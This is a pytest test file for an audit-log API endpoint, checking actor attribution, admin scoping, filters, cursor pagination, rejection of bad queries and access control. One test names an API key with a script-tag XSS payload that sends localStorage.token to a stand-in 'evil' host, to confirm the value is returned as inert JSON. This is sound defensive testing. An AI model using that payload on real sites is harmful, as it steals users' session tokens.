"""/v1/audit-logs over HTTP."""

from __future__ import annotations

from uuid import uuid4

import pytest

PATH = "/v1/audit-logs"


@pytest.fixture
async def team(people):
    return await people.team_of_three()


async def entries(who, query=""):
    answer = await who.get(f"{PATH}{query}")
    assert answer.status_code == 200, answer.text
    return answer.json()["items"]


async def test_a_row_says_who_did_what(team):
    """A name that is HTML comes back as the text that it is, as JSON that no browser takes for a page."""
    name = "<script>fetch('//evil/'+localStorage.token)</script>"
    made = (await team.member.post("/v1/api-keys", {"name": name})).json()
    answer = await team.owner.get(f"{PATH}?resource_type=api_key")
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    (row,) = answer.json()["items"]
    assert row.pop("id").startswith("log-")
    assert row.pop("created_at").endswith("Z")
    assert row == {
        "actor_type": "user",
        "actor_id": team.member.wire_id,
        "actor_name": team.member.email,
        "resource_type": "api_key",
        "resource_id": made["id"],
        "action": "create",
        "scope": "team",
        "status": "success",
        "metadata": {"name": name},
    }


async def test_a_key_acts_under_its_id_and_name(people, team):
    """The actor of what a key did is the key."""
    key = await people.key(team.member, name="deploy <b>")
    agent, _ = await people.host()
    sandbox = await people.sandbox(team.id, agent)
    assert (await key.delete(f"/v1/sandboxes/{sandbox}")).status_code == 204
    (row,) = await entries(team.member, "?action=destroy")
    assert (row["actor_type"], row["actor_id"], row["actor_name"]) == ("api_key", f"key-{key.id}", "deploy <b>")


async def test_the_scope_admin_is_for_admins(people, team):
    await people.sql(
        """insert into audit_logs (team_id, actor_type, actor_name, resource_type, resource_id, action, scope, status)
           values ($1, 'system', 'monitor', 'host', 'host-x', 'marked_down', 'admin', 'error')""",
        team.id,
    )
    assert await entries(team.member, "?resource_type=host") == []
    for who in (team.admin, team.owner):
        (row,) = await entries(who, "?resource_type=host")
        assert (row["actor_type"], row["actor_name"], row["scope"]) == ("system", "monitor", "admin")
        assert "actor_id" not in row


async def test_filters_repeat_or_are_separated_by_commas(team):
    for number in range(2):
        made = (await team.owner.post("/v1/api-keys", {"name": f"k{number}"})).json()
        await team.owner.delete(f"/v1/api-keys/{made['id']}")
    for query, expected in (
        ("?action=create", 2),
        ("?action=create,revoke", 4),
        ("?action=create&action=revoke&resource_type=api_key", 4),
        ("?action=create&resource_type=sandbox", 0),
        ("?resource_type=api_key,sandbox&action=revoke", 2),
        ("?action=unheard_of", 0),
    ):
        found = [row for row in await entries(team.owner, query) if row["resource_type"] != "team"]
        assert len(found) == expected, query


async def test_the_cursor_leads_through_all_rows_of_one_moment(people, team):
    """Seven rows of the same microsecond, two at a time."""
    await people.sql(
        """insert into audit_logs (team_id, actor_type, resource_type, resource_id, action, scope, status, created_at)
           select $1, 'system', 'tie', i::text, 'create', 'team', 'success', '2026-01-01T00:00:00.123456Z'
           from generate_series(1, 7) i""",
        team.id,
    )
    seen, query = [], {"resource_type": "tie", "limit": "2"}
    while True:
        page = (await team.member.get(PATH, params=query)).json()
        seen += [row["resource_id"] for row in page["items"]]
        if "next_before" not in page:
            break
        assert page["next_before"] == "2026-01-01T00:00:00.123456Z"
        query = {**query, "before": page["next_before"], "before_id": page["next_before_id"]}
    assert "next_before_id" not in page
    assert sorted(seen) == [str(number) for number in range(1, 8)]


@pytest.mark.parametrize(
    "query",
    [
        "before=2026-01-01T00:00:00Z",
        f"before_id=log-{uuid4()}",
        f"before=yesterday&before_id=log-{uuid4()}",
        f"before=2026-02-30T00:00:00Z&before_id=log-{uuid4()}",
        f"before=2026-01-01T00:00:00.1234567Z&before_id=log-{uuid4()}",
        f"before=2026-01-01T00:00:00Z&before_id={uuid4()}",
        "limit=0", "limit=201", "limit=x", "action=", "action=a,,b", "action=Create", "action=a%20b",
        "resource_type=%00", "resource_type=" + "a" * 65, "resource_type=" + ",".join(["a"] * 33),
        "cursor=x", "scope=admin",
    ],
)  # fmt: skip
async def test_bad_queries_are_refused(team, query):
    answer = await team.owner.get(f"{PATH}?{query}")
    assert (answer.status_code, answer.json()["error"]["code"]) == (400, "invalid_request")


async def test_keys_and_strangers_are_refused(people, team):
    """A key is 403, even the owner's; a session of another team sees that team's trail only."""
    await team.owner.post("/v1/api-keys", {"name": "x"})
    key = await people.key(team.owner)
    assert (await key.get(PATH)).status_code == 403
    assert (await people.nobody.get(PATH)).status_code == 401
    stranger = await people.sign_up("Mallory")
    assert [row for row in await entries(stranger) if row["resource_type"] == "api_key"] == []
